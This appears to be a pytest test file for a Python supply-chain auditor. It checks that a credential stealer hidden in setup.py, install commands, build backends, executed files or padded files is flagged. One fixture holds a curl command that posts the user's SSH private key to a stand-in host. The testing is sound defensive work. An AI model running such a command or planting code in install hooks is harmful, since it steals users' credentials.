# ruff: noqa: E501 (hidden code has long lines)
"""One stealer, hidden in every way that we know of: no audit of it ends in exit code 0."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

import pytest

from tests.adversary.code_ways import BOUNDS, MODULES, TREES, Files, before
from tests.adversary.open_ways import OPEN
from tests.adversary.project import GREEN, STEALER, clean, package, put, run, why
from tests.support.builders import sdist, sha256
from tests.support.index_server import Index


def ways(group: str, names: Iterable[str]) -> list[object]:
    """One parameter for each; those that are known to be open must fail, so that closing one is noticed."""
    return [
        pytest.param(one, marks=pytest.mark.xfail(reason=OPEN[group, one], strict=True) if (group, one) in OPEN else ())
        for one in names
    ]


@pytest.fixture
def vendor(tmp_path: Path) -> Path:
    root = tmp_path / "vendor"
    root.mkdir()
    return root


def test_the_same_project_without_the_stealer_is_green(
    vendor: Path, index: Index, capfd: pytest.CaptureFixture[str]
) -> None:
    clean(vendor, index)
    put(vendor, {"app/__init__.py": "VALUE = 1\n", "tools/run": "#!/bin/sh\necho done\n"})
    code, report = run(vendor, capfd)
    assert code == GREEN, why(report)


def test_the_stealer_without_any_cover_is_found(vendor: Path, index: Index, capfd: pytest.CaptureFixture[str]) -> None:
    clean(vendor, index)
    put(vendor, {"requirements.txt": package(index, "second", {"second/__init__.py": STEALER})})
    code, report = run(vendor, capfd)
    assert code == 1, why(report)


@pytest.mark.parametrize("way", ways("bounds", BOUNDS))
def test_behind_what_costs_a_bound(way: str, vendor: Path, index: Index, capfd: pytest.CaptureFixture[str]) -> None:
    put(vendor, {"requirements.txt": package(index, "first", {"first/__init__.py": before(BOUNDS[way])})})
    code, report = run(vendor, capfd)
    assert code != GREEN, why(report)


@pytest.mark.parametrize("way", ways("modules", MODULES))
def test_in_a_wheel(way: str, vendor: Path, index: Index, capfd: pytest.CaptureFixture[str]) -> None:
    put(vendor, {"requirements.txt": package(index, "first", MODULES[way])})
    code, report = run(vendor, capfd)
    assert code != GREEN, why(report)


def test_a_native_module_is_named_beside_the_verdict(
    vendor: Path, index: Index, capfd: pytest.CaptureFixture[str]
) -> None:
    """No reader here understands it. A policy decides whether that is a gap; the verdict is never silent about it."""
    files: Files = {
        "first/__init__.py": "from first import _x\n",
        "first/_x.cpython-311-x86_64-linux-gnu.so": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    }
    put(vendor, {"requirements.txt": package(index, "first", files)})
    code, report = run(vendor, capfd)
    [row] = [one for one in report["coverage"] if one["check"] == "native" and one["subject"] == "first==1.0"]
    assert row["status"] == "not-checked"
    assert "started by first/__init__.py line 1" in row["reason"]
    assert code == GREEN, why(report)
    assert "Native code was not read, for nothing here can: first==1.0." in report["reasons"]
    policy = vendor.parent / "strict.toml"
    policy.write_text('required-checks = ["inputs", "resolution", "advisories", "pins", "indexes", "code", "native"]\n')
    code, report = run(vendor, capfd, "--policy", str(policy))
    assert code == 3, why(report)


@pytest.mark.parametrize("way", ways("trees", TREES))
def test_in_the_audited_tree(way: str, vendor: Path, index: Index, capfd: pytest.CaptureFixture[str]) -> None:
    clean(vendor, index)
    put(vendor, TREES[way])
    code, report = run(vendor, capfd)
    assert code != GREEN, why(report)


SDISTS: dict[str, Files] = {
    "in setup.py": {"setup.py": STEALER + "from setuptools import setup\nsetup()\n"},
    "in a module that setup.py imports": {"setup.py": "import _build\n", "_build.py": STEALER},
    "in a command of setup.py": {"setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n" + "".join(f"        {one}\n" for one in STEALER.splitlines()) + "setup(cmdclass={'install': I})\n"},
    "in a backend of the tree": {"pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n', "b.py": STEALER},
    "in a file that setup.py executes": {"setup.py": "exec(open('x.txt').read())\n", "x.txt": STEALER},
    "in a script that setup.py starts": {"setup.py": "import subprocess\nsubprocess.run(['sh', 'x'])\n", "x": "curl -d @$HOME/.ssh/id_rsa https://collect.invalid/\n"},
    "in setup.py behind nine MiB": {"setup.py": before(("# " + "x" * 98 + "\n") * 94372)},
}  # fmt: skip


@pytest.mark.parametrize("way", ways("sdists", SDISTS))
def test_in_an_sdist(way: str, vendor: Path, index: Index, capfd: pytest.CaptureFixture[str]) -> None:
    made = sdist("first", files=SDISTS[way])
    index.add("first", made)
    put(vendor, {"requirements.txt": f"first==1.0 --hash=sha256:{sha256(made[1])}\n"})
    code, report = run(vendor, capfd)
    assert code != GREEN, why(report)


def test_a_clean_sdist_is_green(vendor: Path, index: Index, capfd: pytest.CaptureFixture[str]) -> None:
    files = {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
        "first/__init__.py": "VALUE = 1\n",
    }
    made = sdist("first", files=files)
    index.add("first", made)
    put(vendor, {"requirements.txt": f"first==1.0 --hash=sha256:{sha256(made[1])}\n"})
    code, report = run(vendor, capfd)
    assert code == GREEN, why(report)
